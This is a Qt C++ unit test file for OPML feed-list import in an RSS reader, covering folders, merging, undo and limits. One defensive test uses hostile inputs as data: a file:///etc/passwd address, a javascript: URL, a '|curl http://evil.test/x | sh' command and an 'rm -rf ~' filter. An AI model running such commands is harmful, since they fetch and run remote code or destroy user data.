#include "tests/exchange/opmltest.h"

using namespace depeche;
using namespace depeche::test;
using namespace Qt::Literals::StringLiterals;

class TestOpmlImport final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void importsFoldersAndTitles()
    {
        TestProfile profile;
        const auto report = ok(import(profile.db(), document(Nested)));
        QCOMPARE(report.added.size(), 3);
        QCOMPARE(report.folders, 2);
        const auto found = foldersByAddress(profile.db());
        QCOMPARE(found.value(u"https://meridien.example/rss"_s), u"World/Europe"_s);
        QCOMPARE(found.value(u"https://port.example/f"_s), u"World"_s);
        QCOMPARE(found.value(u"https://ledger.example/f"_s), QString());
        const Feed feed = ok(FeedTable(profile.db()).feed(report.added.first()));
        QCOMPARE(feed.title, u"Le Méridien"_s);
        QCOMPARE(feed.siteUrl, QUrl(u"https://meridien.example/"_s));
    }

    void leavesWhatIsKnown()
    {
        TestProfile profile;
        const FeedId known = profile.addFeed(u"https://port.example/f"_s, u"My name"_s);
        const auto planned = preview(profile.db(), document(Nested));
        QCOMPARE(planned.feeds, 3);
        QCOMPARE(planned.known, 1);
        QCOMPARE(planned.toAdd, 2);
        QCOMPARE(planned.folders, 1);
        QCOMPARE(ok(FeedTable(profile.db()).feeds()).size(), 1); // nothing was changed

        const auto report = ok(import(profile.db(), document(Nested)));
        QCOMPARE(report.added.size(), 2);
        QCOMPARE(report.moved, 0);
        const Feed kept = ok(FeedTable(profile.db()).feed(known));
        QCOMPARE(kept.title, u"My name"_s);
        QVERIFY(!kept.folder);
        const auto again = ok(import(profile.db(), document(Nested)));
        QCOMPARE(again.added.size(), 0);
        QVERIFY(!again.undo);
    }

    void fault56_mergesInsteadOfDoubling()
    {
        TestProfile profile;
        const FeedId port = profile.addFeed(u"https://port.example/f"_s, u"My name"_s);
        const FeedId ledger = profile.addFeed(u"https://ledger.example/f"_s);
        QCOMPARE(preview(profile.db(), document(Nested), merging()).moved, 1);
        const auto report = ok(import(profile.db(), document(Nested), merging()));
        QCOMPARE(report.added.size(), 1);
        QCOMPARE(report.moved, 1); // the list has Ledger in no folder: it stays
        auto found = foldersByAddress(profile.db());
        QCOMPARE(found.size(), 3);
        QCOMPARE(found.value(u"https://port.example/f"_s), u"World"_s);
        QCOMPARE(ok(FeedTable(profile.db()).feed(port)).title, u"My name"_s);
        QVERIFY(!ok(FeedTable(profile.db()).feed(ledger)).folder);
        QCOMPARE(ok(import(profile.db(), document(Nested), merging())).moved, 0);

        QVERIFY(ok(UndoTable(profile.db()).undo(Now)));
        found = foldersByAddress(profile.db());
        QCOMPARE(found.size(), 2);
        QCOMPARE(found.value(u"https://port.example/f"_s), QString());
        QCOMPARE(ok(FolderTable(profile.db()).folders()).size(), 0);
    }

    void intoAFolder()
    {
        TestProfile profile;
        ok(import(profile.db(), document(Nested), {u"Old reader/2026"_s, {}, nullptr}));
        const auto found = foldersByAddress(profile.db());
        QCOMPARE(found.value(u"https://meridien.example/rss"_s), u"Old reader/2026/World/Europe"_s);
        QCOMPARE(found.value(u"https://ledger.example/f"_s), u"Old reader/2026"_s);
    }

    void onlyWhatIsChosen()
    {
        TestProfile profile;
        ImportPlan plan = ok(compareWithStore(profile.db(), planImport(document(Nested))));
        for (ImportRow &row : plan.rows)
            row.isChosen = row.name == u"Port";
        const auto report = ok(importPlan(profile.db(), plan, {}, Now));
        QCOMPARE(report.added.size(), 1);
        QCOMPARE(ok(FolderTable(profile.db()).folders()).size(), 1); // "Europe" would be empty
    }

    void fault56_commandsAreNeverTakenForAddresses_data()
    {
        QTest::addColumn<QByteArray>("outline");
        QTest::addColumn<ImportState>("state");
        const auto row = [](const char *name, const char *outline, ImportState state) {
            QTest::newRow(name) << QByteArray(outline) << state;
        };
        row("file", "xmlUrl='file:///etc/passwd'", ImportState::NoAddress);
        row("path", "xmlUrl='/home/anne/feed.xml'", ImportState::NoAddress);
        row("file name", "xmlUrl='feeds/news.xml'", ImportState::NoAddress);
        row("javascript", "xmlUrl='javascript:alert(1)'", ImportState::NoAddress);
        row("words", "xmlUrl='not an address'", ImportState::NoAddress);
        row("Liferea's program", "xmlUrl='|/home/anne/bin/feed.sh'", ImportState::Command);
        row("Liferea's program 2", "type='rss' xmlUrl='|curl http://evil.test/x | sh'", ImportState::Command);
        row("Newsboat's program", "xmlUrl='exec:~/bin/feed.sh'", ImportState::Command);
        row("Newsboat's filter", "xmlUrl='filter:~/bin/f:https://news.test/rss'", ImportState::Command);
        row("link", "type='link' url='https://news.test/page'", ImportState::NotAFeed);
        row("include", "type='include' url='https://news.test/list.opml'", ImportState::NotAFeed);
        row("include with xmlUrl", "type='include' xmlUrl='https://news.test/l.opml'", ImportState::NotAFeed);
        row("note", "created='x'", ImportState::NotAFeed);
        row("no type", "xmlUrl='https://news.test/rss'", ImportState::New);
        row("old lists", "type='RSS' url='https://news.test/rss'", ImportState::New);
        row("feed:", "xmlUrl='feed://news.test/rss'", ImportState::New);
        row("no scheme", "xmlUrl='news.test/rss'", ImportState::New);
        row("Liferea's filter", "xmlUrl='https://news.test/rss' filtercmd='rm -rf ~'", ImportState::New);
    }
    void fault56_commandsAreNeverTakenForAddresses()
    {
        QFETCH(QByteArray, outline);
        QFETCH(ImportState, state);
        const ImportPlan plan = planImport(document("<outline text='x' " + outline + "/>"));
        QCOMPARE(plan.rows.size(), 1);
        QCOMPARE(plan.rows.first().state, state);
        QCOMPARE(plan.rows.first().isChosen, state == ImportState::New);
        TestProfile profile;
        QCOMPARE(ok(import(profile.db(), document("<outline text='x' " + outline + "/>"))).added.size(),
                 state == ImportState::New ? 1 : 0);
    }

    void fault56_sameAddressFiveThousandTimesIsOneFeed()
    {
        TestProfile profile;
        const auto report =
            ok(import(profile.db(),
                      document("<outline text='A'>" +
                               QByteArray("<outline text='x' xmlUrl='https://x.example/f'/>").repeated(2500) +
                               "</outline><outline text='B'>" +
                               QByteArray("<outline text='x' xmlUrl='HTTPS://X.example/f'/>").repeated(2500) +
                               "</outline>")));
        QCOMPARE(report.feeds, 1);
        QCOMPARE(report.duplicates, 4999);
        QCOMPARE(foldersByAddress(profile.db()),
                 (QHash<QString, QString>{{u"https://x.example/f"_s, u"A"_s}}));
        QCOMPARE(ok(FolderTable(profile.db()).folders()).size(), 1);
    }

    void fault56_longTitlesAreCutAndSaidSo()
    {
        TestProfile profile;
        const OpmlDocument list =
            document("<outline text='" + QByteArray(5000, 'x') + "' xmlUrl='https://x.example/f'/>");
        QVERIFY(planImport(list).note.contains(u"1,000"));
        const FeedId id = ok(import(profile.db(), list)).added.first();
        QVERIFY(ok(FeedTable(profile.db()).feed(id)).title.size() <= 1001);
    }

    void doublyEscapedTitlesAreReadOnce()
    {
        TestProfile profile;
        ok(import(profile.db(),
                  document("<outline text='AT&amp;amp;T &amp;#8211; caf&amp;eacute; A&amp;B'>"
                           "<outline text='Q&amp;quot;A' xmlUrl='https://x.example/f'/></outline>")));
        QCOMPARE(ok(FolderTable(profile.db()).folders()).first().name, u"AT&T – café A&B"_s);
        QCOMPARE(ok(FeedTable(profile.db()).feeds()).first().title, u"Q\"A"_s);
    }

    void slashesInNamesAndCategories()
    {
        TestProfile profile;
        ok(import(profile.db(),
                  document("<outline text='AC/DC'><outline text='x' xmlUrl='https://x.example/f'/></outline>"
                           "<outline text='y' xmlUrl='https://y.example/f' category='news,/World/Asia'/>")));
        const auto found = foldersByAddress(profile.db());
        QCOMPARE(found.value(u"https://x.example/f"_s), u"AC DC"_s);
        QCOMPARE(found.value(u"https://y.example/f"_s), u"World/Asia"_s);
    }

    void listsWithoutPasswordsMeanTheSameFeeds()
    {
        TestProfile profile;
        profile.addFeed(u"https://anne:secret@port.example/f"_s);
        QCOMPARE(ok(import(profile.db(), document(Nested))).known, 1);
        QCOMPARE(ok(import(profile.db(), document("<outline text='a' "
                                                  "xmlUrl='https://bob:other@port.example/f'/>")))
                     .added.size(),
                 1);
    }

    void undoTakesBackExactlyTheImport()
    {
        TestProfile profile;
        const auto world = *ok(FolderTable(profile.db()).ensure(u"World"_s));
        profile.addFeed(u"https://own.example/f"_s, {}, world);
        ok(FolderTable(profile.db()).ensure(u"Empty"_s));
        const auto report = ok(import(profile.db(), document(Nested)));
        // Used meanwhile: an article is starred, and a feed of the user's lies in a folder of the import.
        profile.write(report.added.first(), {article(u"kept"_s)});
        const auto europe = ok(FolderTable(profile.db()).ensure(u"World/Europe"_s));
        profile.addFeed(u"https://mine.example/f"_s, {}, europe);
        const auto step = ok(UndoTable(profile.db()).last());
        QCOMPARE(step->id, *report.undo);
        QCOMPARE(step->title, importSummary(report));

        QVERIFY(ok(UndoTable(profile.db()).undo(Now)));
        const auto found = foldersByAddress(profile.db());
        QCOMPARE(found.size(), 2);
        QCOMPARE(found.value(u"https://own.example/f"_s), u"World"_s);
        QCOMPARE(found.value(u"https://mine.example/f"_s), u"World/Europe"_s);
        QCOMPARE(ok(FolderTable(profile.db()).folders()).size(), 3);
        QVERIFY(!ok(UndoTable(profile.db()).undo(Now))); // it was one step

        // What was starred is not lost: it comes back with the feed.
        ok(import(profile.db(), document(Nested)));
        QCOMPARE(ok(FeedTable(profile.db()).feed(report.added.first())).articles, 1);
    }

    void undoLeavesWhatTheUserMovedSince()
    {
        TestProfile profile;
        const FeedId port = profile.addFeed(u"https://port.example/f"_s);
        ok(import(profile.db(), document(Nested), merging()));
        const auto other = ok(FolderTable(profile.db()).ensure(u"Other"_s));
        ok(FeedTable(profile.db()).move(port, other, 0));
        ok(UndoTable(profile.db()).undo(Now));
        QCOMPARE(ok(FeedTable(profile.db()).feed(port)).folder, other);
    }

    void undoOfWhatIsGoneIsMoot()
    {
        TestProfile profile;
        const auto report =
            ok(import(profile.db(), document("<outline text='x' xmlUrl='https://x.example/f'/>")));
        ok(FeedTable(profile.db()).remove(report.added.first(), Now));
        QVERIFY(!ok(UndoTable(profile.db()).takeBack(*report.undo, Now)));
        QVERIFY(!ok(UndoTable(profile.db()).takeBack(*report.undo, Now))); // forgotten
    }

    void cancelledOrFullLeavesNothing()
    {
        TestProfile profile;
        ImportOptions options;
        options.progress = std::make_shared<ImportProgress>();
        options.progress->cancelled = true;
        const auto cancelled = import(profile.db(), document(Nested), options);
        QVERIFY(!cancelled);
        QCOMPARE(cancelled.error().kind, ErrorKind::Cancelled);

        const qint64 pages = ok(numberOf(profile.db(), u"PRAGMA page_count"_s));
        ok(profile.db().exec(u"PRAGMA max_page_count = "_s + QString::number(pages + 4)));
        QByteArray many;
        for (int i = 0; i < 5000; ++i)
            many += "<outline text='Folder'><outline text='x' xmlUrl='https://x.example/" +
                    QByteArray::number(i) + "'/></outline>";
        const auto full = import(profile.db(), document(many));
        QVERIFY(!full);
        QCOMPARE(full.error().kind, ErrorKind::DiskFull);
        QVERIFY(!full.error().message.isEmpty());
        QCOMPARE(ok(FeedTable(profile.db()).feeds()).size(), 0);
        QCOMPARE(ok(FolderTable(profile.db()).folders()).size(), 0);
        QVERIFY(!ok(UndoTable(profile.db()).last()));
    }
};

QTEST_GUILESS_MAIN(TestOpmlImport)
#include "tst_opmlimport.moc"
